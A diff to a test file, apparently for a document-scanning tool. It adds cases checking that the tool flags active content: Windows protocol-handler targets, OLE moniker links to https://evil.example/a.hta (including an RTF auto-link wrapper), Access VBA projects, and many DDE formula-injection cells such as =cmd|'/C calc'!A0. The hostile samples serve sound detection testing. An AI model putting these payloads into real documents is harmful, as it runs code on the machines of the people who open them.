@@ -274,6 +274,66 @@ describe('what a document loads or starts', () => {
     expect(codes(relation('hyperlink', 'https://shop.example/'))).toEqual([]);
   });
 
+  it.each([
+    'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html',
+    'ms-msdt:/id',
+    'search-ms:query=a',
+    'mk:@MSITStore:a',
+    'script:https://a',
+  ])('is a program of Windows that a target names: %s', (target) => {
+    for (const type of ['oleObject', 'attachedTemplate', 'hyperlink', 'image']) expect(look(relation(type, target)).macros).toBe(true);
+  });
+
+  it.each([
+    ['URL', 'e0c9ea79f9bace118c8200aa004ba90b'],
+    ['script', 'd30b2906aa48d2118432006008c3fbfc'],
+    ['SOAP', 'c7b0abec197fd211978e0000f8757e2a'],
+  ])('is an object that is linked by a moniker, in any document: %s', (name, id) => {
+    const address = Buffer.from('https://evil.example/a.hta\0', 'utf16le');
+    const link = Buffer.concat([
+      Buffer.from('0100000202000000', 'hex'),
+      Buffer.alloc(16),
+      Buffer.from(id, 'hex'),
+      Buffer.from([address.length, 0, 0, 0]),
+      address,
+    ]);
+    const linked = ole([{ path: '\x01Ole', bytes: link }]);
+    const stored = Buffer.concat([Buffer.from('0105000002000000', 'hex'), Buffer.from([9, 0, 0, 0]), Buffer.from('OLE2Link\0'), Buffer.alloc(8)]);
+    const size = Buffer.from(Uint32Array.of(linked.length).buffer);
+    const rtf = look(Buffer.from(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${Buffer.concat([stored, size, linked]).toString('hex')}}}}`));
+    for (const bytes of [
+      linked,
+      ole([
+        { path: 'WordDocument', bytes: Buffer.alloc(1024) },
+        { path: 'ObjectPool/_1/\x01Ole', bytes: link },
+      ]),
+      rtf.embedded[0]?.bytes,
+    ]) {
+      const seen = look(bytes ?? Buffer.alloc(0));
+      expect(seen.macros).toBe(true);
+      expect(seen.findings.find(({ code }) => code === 'DOC_PROGRAM')?.evidence).toBe(`${name} moniker https://evil.example/a.hta`);
+    }
+  });
+
+  it('is no link to a file', () => {
+    const file = Buffer.concat([
+      Buffer.from('0100000202000000', 'hex'),
+      Buffer.alloc(16),
+      Buffer.from('0303000000000000c000000000000046', 'hex'),
+      Buffer.alloc(60),
+    ]);
+    expect(look(ole([{ path: '\x01Ole', bytes: file }])).macros).toBe(false);
+  });
+
+  it('is the project of a database', () => {
+    for (const encoding of ['latin1', 'utf16le'] as const) {
+      const bytes = Buffer.concat([Buffer.from('\0\x01\0\0Standard ACE DB\0', 'latin1'), Buffer.alloc(4096), Buffer.from('VBAProject', encoding)]);
+      expect(identify(bytes)).toEqual(['accdb']);
+      expect(look(bytes).macros).toBe(true);
+      expect(look(bytes.subarray(0, 4096)).macros).toBe(false);
+    }
+  });
+
   it('is a field or cell that starts a program', () => {
     const field = '<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>';
     const word = officeDocument({ kind: 'docx', extra: [{ name: 'word/header1.xml', bytes: Buffer.from(field) }] });
@@ -283,7 +343,28 @@ describe('what a document loads or starts', () => {
       extra: [{ name: 'xl/externalLinks/externalLink1.xml', bytes: Buffer.from('<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc"/>') }],
     });
     expect(codes(excel)).toContain('DOC_DDE');
-    expect(codes(Buffer.from("name,value\n=cmd|'/C calc'!A0,1\nx,2\n"))).toContain('DOC_DDE');
-    expect(codes(Buffer.from('name,value,sum\na,=A1+B1,3\nx,2,4\n'))).toEqual([]);
+  });
+
+  it.each([
+    "=cmd|'/C calc'!A0",
+    "+cmd|'/C calc'!A0",
+    "-cmd|'/C calc'!A0",
+    "@cmd|'/C calc'!A0",
+    "=10+20+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "=1&cmd|'/C calc'!A0",
+    "=IF(1,cmd|'/C calc'!A0)",
+    "=notepad|'a.txt'!A0",
+    "=  cmd | '/C calc'!A0",
+    "=MSEXCEL|'\\..\\..\\a.exe'!A0",
+    '=cmd|"/C calc"!A0',
+  ])('is a cell in which a program is a service: %s', (cell) => {
+    for (const line of [`${cell},1`, `x;${cell}`, `"${cell}",x`, `1,2,${cell}`])
+      expect(codes(Buffer.from(`name,value\n${line}\nx,2\n`)), line).toContain('DOC_DDE');
+  });
+
+  it.each(['a,=A1+B1,3', 'a|b,c|d', "x,it's a|b,'c'!", '-1|2,3', 'cmd|x,1', "see 'cmd|more',1", '=A1|B1,2'])('is no cell of a table: %s', (line) => {
+    expect(codes(Buffer.from(`name,value,sum\n${line}\nx,2,4\n`))).toEqual([]);
   });
 });
